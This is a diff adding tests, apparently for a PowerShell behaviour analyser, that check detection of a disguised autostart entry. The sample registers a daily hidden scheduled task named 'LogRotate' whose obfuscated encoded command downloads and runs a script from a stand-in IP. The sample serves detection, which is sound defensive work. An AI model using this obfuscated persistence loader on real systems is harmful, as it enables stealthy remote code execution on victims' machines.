@@ -286,3 +286,34 @@ describe('PowerShell: secret stores copied, archived and uploaded', () => {
     expect(ofKind(r, 'send').filter((s) => s.data.taints.includes('secret'))).toEqual([]);
   });
 });
+
+describe('PowerShell: an autostart entry whose host runs an encoded command', () => {
+  // The blob split over lines of an array subexpression, joined, and the flag built by a format string.
+  const blob =
+    'JABzAD0AIgBoAHQAdABwAHMAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwB3AC4AcABzADEAIgA7AGkAZQB4ACAAKABpAHIAbQAgACQAcwApAA==';
+  const task = [
+    '$parts = -join @(',
+    `  '${blob.slice(0, 36)}'`,
+    `  '${blob.slice(36)}'`,
+    ')',
+    "$argLine = '-NoLogo -WindowStyle Hidden -e{0} {1}' -f 'nc', $parts",
+    "$act = New-ScheduledTaskAction -Execute 'pwsh.exe' -Argument $argLine",
+    "Register-ScheduledTask -TaskName 'LogRotate' -Action $act -Trigger (New-ScheduledTaskTrigger -Daily -At 2am)",
+  ].join('\n');
+
+  it('decodes the command where the entry is made: the download it runs, and the entry runs code', async () => {
+    const r = await ps(task);
+    expect(ofKind(r, 'execute').map((b) => b.via)).toContain('powershell -EncodedCommand');
+    expect(ofKind(r, 'fetch').map((b) => b.endpoint.host)).toContain('203.0.113.77');
+    const write = ofKind(r, 'write').find((w) => w.cls === 'autostart');
+    expect(write?.content?.text).toContain('irm $s');
+  });
+
+  it('a local clean-up encoded the same way downloads nothing', async () => {
+    const r = await ps(
+      `$act = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-ec RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgACQAZQBuAHYAOgBUAEUATQBQACAALQBGAGkAbAB0AGUAcgAgACoALgBsAG8AZwAgAHwAIABSAGUAbQBvAHYAZQAtAEkAdABlAG0A'\nRegister-ScheduledTask -TaskName Tidy -Action $act`,
+    );
+    expect(ofKind(r, 'fetch')).toEqual([]);
+    expect(ofKind(r, 'write').find((w) => w.cls === 'autostart')?.content?.text).toContain('Remove-Item');
+  });
+});
